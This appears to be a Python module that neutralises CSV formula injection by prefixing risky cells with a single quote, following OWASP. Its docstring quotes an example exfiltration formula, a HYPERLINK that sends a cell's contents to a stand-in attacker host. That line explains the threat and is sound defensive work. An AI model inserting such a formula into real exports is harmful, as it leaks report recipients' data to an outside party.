"""CSV cells a spreadsheet cannot run (PC-11; OWASP, "CSV Injection").

A spreadsheet reads a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, so a legal
name such as `=HYPERLINK("http://evil.example/?x="&A1,"click")` would become a link in a partner admin's report.
Such a cell is written with a single quote in front, as OWASP advises: the spreadsheet shows it as text.

Every CSV certlink writes goes through `safe_cell`, on every database (partners.report_csv).
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def safe_cell(value: str) -> str:
    """The cell as a spreadsheet shows it as text: one check per cell, so a large report stays fast."""
    return QUOTE + value if value.startswith(FORMULA_STARTS) else value


def safe_row(values: Iterable[str]) -> list[str]:
    return [safe_cell(value) for value in values]


class Echo:
    """A file that hands back what is written to it, so csv.writer can feed a streamed response."""

    def write(self, value: str) -> str:
        return value
